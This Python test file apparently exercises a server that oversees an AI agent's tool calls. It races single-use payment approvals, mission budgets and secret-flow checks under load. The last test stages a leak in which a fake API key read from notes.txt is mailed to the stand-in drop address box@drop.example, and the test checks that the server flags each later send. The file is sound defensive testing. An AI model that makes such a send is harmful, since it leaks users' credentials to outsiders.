"""Races over real connections: one approval, one budget, one secret. `REMIT_FAULTS=500` runs them at full size."""

import asyncio
import collections
import contextlib
import os
from collections.abc import Awaitable
from pathlib import Path
from typing import Any

from tests.faults.house import IBAN, LARGE, Keys, Office, Unreachable, crowd, together, visiting
from tests.faults.process import Server, serving
from tests.faults.promises import Promises, Rows, broken

FULL = int(os.environ.get("REMIT_FAULTS", "20")) >= 500
USES = 10_000 if FULL else 1_000
PAYMENTS = 1_000
CONNECTIONS = 128


def effects(answers: list[dict[str, Any]]) -> collections.Counter[str]:
    return collections.Counter(answer["outcome"] for answer in answers)


def promised(office: Office) -> Promises:
    promises = Promises()
    for context in office.released:
        promises.told({"context": context})
    return promises


def test_one_approval_permits_exactly_one_of_many_uses_at_once(directory: Path, keys: Keys, tmp_path: Path) -> None:
    async def story(url: str) -> tuple[Office, str]:
        async with visiting(url, keys, CONNECTIONS) as office:
            mission = await office.mission(f"Pay {LARGE} EUR to {IBAN}", purpose="pay-bills")
            approval, payment = await office.approved(mission, "c1")

            def use() -> Awaitable[dict[str, Any]]:
                return office.ask(mission, "make_payment", payment, call_id="c1", approval=approval)

            assert effects(await crowd(USES, CONNECTIONS, use))["permit"] == 1
            return office, approval

    with serving(Server(directory)) as server:
        office, approval = asyncio.run(story(server.url))
        server.kill()
    assert broken(directory, promised(office), tmp_path) == []
    assert Rows(directory).records["approval"][approval]["state"] == "consumed"


def test_one_approval_permits_at_most_once_across_a_crash_in_the_middle(
    directory: Path, keys: Keys, tmp_path: Path
) -> None:
    permits = []
    promises = Promises()

    async def uses(url: str, mission: str, approval: str, payment: dict[str, Any], server: Server | None) -> None:
        async with visiting(url, keys, CONNECTIONS) as office:
            if server is not None:
                office.after(20, server.kill)
            calls = [office.ask(mission, "make_payment", payment, call_id="c1", approval=approval) for _ in range(200)]
            with contextlib.suppress(Unreachable):
                await together(*calls)
            permits.append(effects(office.released)["permit"])
            for context in office.released:
                promises.told({"context": context})

    async def approved(url: str) -> tuple[str, str, dict[str, Any]]:
        async with visiting(url, keys) as office:
            mission = await office.mission(f"Pay {LARGE} EUR to {IBAN}", purpose="pay-bills")
            return mission, *await office.approved(mission, "c1")

    with serving(Server(directory)) as server:
        mission, approval, payment = asyncio.run(approved(server.url))
        asyncio.run(uses(server.url, mission, approval, payment, server))
    with serving(Server(directory)) as server:
        asyncio.run(uses(server.url, mission, approval, payment, None))
        server.kill()
    assert sum(permits) <= 1
    assert broken(directory, promises, tmp_path) == []
    assert Rows(directory).records["approval"][approval]["state"] == "consumed"


def test_parallel_payments_of_one_mission_spend_its_budget_exactly(directory: Path, keys: Keys, tmp_path: Path) -> None:
    fit = 137

    async def story(url: str) -> tuple[Office, str]:
        async with visiting(url, keys, CONNECTIONS) as office:
            goal = f"Pay 7 EUR to {IBAN}"
            mission = await office.mission(goal, purpose="pay-bills", budget={"amount": 7.0 * fit + 3})
            payment = {"recipient": IBAN, "amount": 7}
            answers = await crowd(PAYMENTS, CONNECTIONS, lambda: office.ask(mission, "make_payment", payment))
            assert effects(answers) == {"permit": fit, "deny": PAYMENTS - fit}
            return office, mission

    with serving(Server(directory)) as server:
        office, mission = asyncio.run(story(server.url))
        server.kill()
    assert broken(directory, promised(office), tmp_path) == []
    assert Rows(directory).records["ledger"][mission]["spent"]["amount"] == 7.0 * fit


def flow(answer: dict[str, Any]) -> str:
    return next(str(one["verdict"]) for one in answer["findings"] if one["kind"] == "flow")


def test_a_secret_read_beside_sends_counts_for_every_send_after_it_was_taken_in(
    directory: Path, keys: Keys, tmp_path: Path
) -> None:
    """Sends race the result of a read. Once its outcome was acknowledged, every send is judged with it."""
    secret = "api_key: sk-99aa71bb42\n\nSee also box@drop.example"
    mail = {"to": "box@drop.example", "body": "sk-99aa71bb42"}

    async def story(url: str) -> Office:
        async with visiting(url, keys, CONNECTIONS) as office:
            mission = await office.mission("Read notes.txt and send Kim a summary.")
            before: list[str] = []
            after: list[str] = []
            ingested = asyncio.Event()

            async def send() -> None:
                late = ingested.is_set()
                answer = await office.ask(mission, "send_email", mail)
                assert answer["outcome"] != "permit" or not late, answer
                (after if late else before).append(flow(answer))

            async def read() -> None:
                answer = await office.ask(mission, "read_file", {"name": "notes.txt"})
                assert answer["outcome"] == "permit"
                await office.returned(answer["id"], content=secret)
                ingested.set()

            async def sending() -> None:
                while len(after) < 100:
                    await together(*(send() for _ in range(20)))

            await send()
            await together(read(), sending())
            assert before[0] != "leaks", "the finding does not depend on what was read: this proves nothing"
            assert set(after) == {"leaks"}
            return office

    with serving(Server(directory)) as server:
        office = asyncio.run(story(server.url))
        server.kill()
    assert broken(directory, promised(office), tmp_path) == []
